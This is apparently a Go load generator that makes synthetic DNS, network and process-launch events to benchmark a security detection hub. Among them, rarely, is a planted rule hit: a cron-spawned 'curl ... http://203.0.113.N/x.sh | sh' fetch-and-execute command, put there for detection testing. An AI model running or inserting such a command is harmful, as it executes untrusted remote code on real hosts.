package main

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	"noroshi/event"
	"noroshi/ident"
)

// How often something is sent that the hub finds: an indicator in 5,000 events,
// a rule in 20,000.
const (
	everyWatched = 5_000
	everyRule    = 20_000
	distinct     = 5_000 // lines of a node before they come again with new numbers
)

// What changes from event to event stands in a line as a mark of the same
// length, so that making a batch costs little beside the hub that is measured.
const (
	markTime = 1_111_111_111_111
	markSeq  = 2_222_222_222_222_222
	widthUID = 10 // of a sequence that began at the clock's microseconds, in base 36
)

// traffic is what one node sends: half of it look-ups, a third connections, the
// rest programs that start, as sense/dns and sense/endpoint write them down.
type traffic struct {
	node, org ident.ID
	rnd       *rand.Rand
	names     *rand.Zipf
	known     int // indicators that may be hit
	lines     []line
	next      int
	seq       uint64
}

type line struct {
	text                []byte
	at, logged, seq, id int // where the marks stand
}

func newTraffic(node, org ident.ID, n uint64, known int) (*traffic, error) {
	t := &traffic{node: node, org: org, rnd: rand.New(rand.NewPCG(n, 7)), known: known, seq: uint64(time.Now().UnixMicro())}
	t.names = rand.NewZipf(t.rnd, 1.1, 4, 50_000)
	for i := range distinct {
		e := t.event(int(n)*distinct + i)
		l, err := t.write(e)
		if err != nil {
			return nil, err
		}
		t.lines = append(t.lines, l)
	}
	return t, nil
}

// write makes a line with marks of an event.
func (t *traffic) write(e *event.Event) (line, error) {
	e.Time = markTime
	m := &e.Metadata
	m.Sequence, m.Tenant, m.Reporter = markSeq, t.org, event.Reporter{UID: t.node, Hostname: "host-" + string(t.node[len(t.node)-4:])}
	uid := string(t.node) + "." + strings.Repeat("z", widthUID)
	m.UID, m.LoggedTime = uid, markTime
	m.Product = event.Product{Name: "Noroshi", VendorName: "Noroshi", Version: "1.0.0", Feature: event.Feature{Name: "sensor"}}
	e.Finish()
	b, err := event.AppendJSON(nil, e)
	stamp := []byte(strconv.Itoa(markTime))
	l := line{text: b, at: bytes.Index(b, stamp), logged: bytes.LastIndex(b, stamp),
		seq: bytes.Index(b, []byte(strconv.Itoa(markSeq))), id: bytes.Index(b, []byte(uid)) + len(uid) - widthUID}
	return l, err
}

// batch makes n lines of events that happen at a moment, and remembers the
// sequence.
func (t *traffic) batch(n int, at time.Time) [][]byte {
	out := make([][]byte, max(n, 0))
	for i := range out {
		l := t.lines[t.next]
		t.next = (t.next + 1) % len(t.lines)
		out[i] = t.stamp(l, at)
	}
	return out
}

func (t *traffic) stamp(l line, at time.Time) []byte {
	b := bytes.Clone(l.text)
	ms := strconv.FormatInt(at.UnixMilli(), 10)
	copy(b[l.at:], ms)
	copy(b[l.logged:], ms)
	copy(b[l.seq:], strconv.FormatUint(t.seq, 10))
	copy(b[l.id:], strconv.FormatUint(t.seq, 36))
	t.seq++
	return b
}

func (t *traffic) event(n int) *event.Event {
	switch {
	case n%everyRule == 7:
		return t.launch("/usr/bin/dash", "sh -c curl -fsSL http://203.0.113."+strconv.Itoa(n%250)+"/x.sh | sh")
	case n%everyWatched == 11:
		o := watched(t.rnd.IntN(t.known) / 20 * 20) // A name.
		return t.lookup("www."+o.Value, "192.0.2.7")
	}
	switch x := t.rnd.IntN(10); {
	case x < 5:
		name := t.names.Uint64()
		return t.lookup(fmt.Sprintf("edge-%d.cdn%d.example.org", name, name%313), fmt.Sprintf("198.18.%d.%d", name>>8&255, name&255))
	case x < 8:
		return t.connection()
	}
	c := commands[t.rnd.IntN(len(commands))]
	return t.launch(c.image, strings.ReplaceAll(c.line, "#", strconv.Itoa(t.rnd.IntN(100_000))))
}

// commands are what servers start all day.
var commands = []struct{ image, line string }{
	{"/usr/bin/python3.11", "/usr/bin/python3 /opt/app/worker.py --queue mail --id # --config /etc/app/worker.yml --log-level info"},
	{"/usr/bin/dash", "/bin/sh -c test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.hourly; } #"},
	{"/usr/bin/git", "git -C /srv/repo/# fetch --prune origin"},
	{"/usr/bin/rsync", "rsync -a --delete /var/www/site-#/ backup.example.org:/srv/backup/site-#/"},
	{"/usr/bin/find", "find /var/log -name *.gz -mtime +# -delete"},
	{"/usr/bin/curl", "curl -fsS --max-time 10 https://status.example.org/api/v1/health?check=#"},
	{"/usr/bin/java", "java -Xmx2g -jar /opt/service/service-1.#.jar --spring.config.location=/etc/service/application.yml --server.port=8080"},
	{"/usr/bin/psql", "psql -h 10.0.3.7 -U report -d sales -c SELECT count(*) FROM orders WHERE day = # "},
}

// launch is what sense/endpoint makes of an execution.
func (t *traffic) launch(image, cmd string) *event.Event {
	root := &event.User{Name: "root", UID: "0"}
	pid := 1000 + t.rnd.IntN(60_000)
	parent := &event.Process{PID: 812, UID: "812-4011", Name: "cron", CmdLine: "/usr/sbin/cron -f", CreatedTime: markTime - 100_000,
		File: &event.File{Path: "/usr/sbin/cron", Name: "cron", TypeID: 1}, User: root}
	p := &event.Process{PID: pid, UID: strconv.Itoa(pid) + "-99120", Name: image[strings.LastIndexByte(image, '/')+1:], CmdLine: cmd, WorkingDirectory: "/root",
		CreatedTime: markTime - 5, File: &event.File{Path: image, Name: image[strings.LastIndexByte(image, '/')+1:], TypeID: 1}, User: root, ParentProcess: parent}
	e := t.sensed()
	e.ClassUID, e.ActivityID, e.Process = event.ProcessActivity, event.ProcessLaunch, p
	e.Actor = &event.Actor{Process: parent, User: root}
	e.Unmapped = map[string]string{"Image": image, "CommandLine": cmd, "ProcessId": strconv.Itoa(pid), "User": "root", "CurrentDirectory": "/root",
		"ParentProcessId": "812", "ParentImage": "/usr/sbin/cron", "ParentCommandLine": "/usr/sbin/cron -f"}
	return e
}

func (t *traffic) connection() *event.Event {
	ip, port := fmt.Sprintf("198.18.%d.%d", t.rnd.IntN(64), t.rnd.IntN(256)), 443
	if t.rnd.IntN(4) == 0 {
		ip, port = fmt.Sprintf("10.0.%d.%d", t.rnd.IntN(8), t.rnd.IntN(256)), 5432
	}
	image := commands[t.rnd.IntN(len(commands))].image
	if image == "/usr/bin/dash" { // A shell that connects is a finding.
		image = "/usr/bin/python3.11"
	}
	src := 30_000 + t.rnd.IntN(30_000)
	e := t.sensed()
	e.ClassUID, e.ActivityID = event.NetworkActivity, event.NetworkOpen
	e.Actor = &event.Actor{User: &event.User{Name: "www-data", UID: "33"}, Process: &event.Process{PID: 4021, UID: "4021-7", Name: image[9:], CmdLine: image + " --serve",
		File: &event.File{Path: image, Name: image[9:], TypeID: 1}, User: &event.User{Name: "www-data", UID: "33"}}}
	e.ConnectionInfo = &event.ConnectionInfo{ProtocolName: "tcp", ProtocolNum: 6, DirectionID: event.DirectionOutbound}
	e.SrcEndpoint, e.DstEndpoint = &event.Endpoint{IP: "10.0.1.5", Port: src}, &event.Endpoint{IP: ip, Port: port}
	e.Unmapped = map[string]string{"Image": image, "Protocol": "tcp", "Initiated": "true", "SourceIp": "10.0.1.5", "SourcePort": strconv.Itoa(src),
		"DestinationIp": ip, "DestinationPort": strconv.Itoa(port)}
	return e
}

// lookup is what sense/dns writes down of an answered query.
func (t *traffic) lookup(name, addr string) *event.Event {
	rcode := 0
	e := &event.Event{ClassUID: event.DNSActivity, ActivityID: event.DNSTraffic, ResponseTime: markTime - 1,
		Metadata:    event.Metadata{Provider: event.TierResolver, Profiles: []string{"security_control"}},
		Query:       &event.DNSQueryInfo{Hostname: name, Type: "A", Class: "IN"},
		SrcEndpoint: &event.Endpoint{IP: fmt.Sprintf("10.0.%d.%d", t.rnd.IntN(8), t.rnd.IntN(256)), Port: 30_000 + t.rnd.IntN(30_000)},
		DstEndpoint: &event.Endpoint{IP: "10.0.0.53", Port: 53}, ConnectionInfo: &event.ConnectionInfo{ProtocolName: "udp", ProtocolNum: 17, DirectionID: event.DirectionInbound},
		Answers: []event.DNSAnswer{{RData: "lb." + name, Type: "CNAME", Class: "IN", TTL: 60}, {RData: addr, Type: "A", Class: "IN", TTL: 30}},
		RCode:   "NOERROR", RCodeID: &rcode, ActionID: event.ActionAllowed, DispositionID: event.DispositionAllowed}
	e.Unmapped = map[string]string{"QueryName": name, "record_type": "A", "QueryResults": "lb." + name + ";" + addr + ";"}
	return e
}

func (t *traffic) sensed() *event.Event {
	return &event.Event{Metadata: event.Metadata{Provider: event.TierEBPF, Profiles: []string{"host"}},
		Device: &event.Device{Hostname: "host-" + string(t.node[len(t.node)-4:]), OS: &event.OS{Name: "Linux", TypeID: 200}}}
}
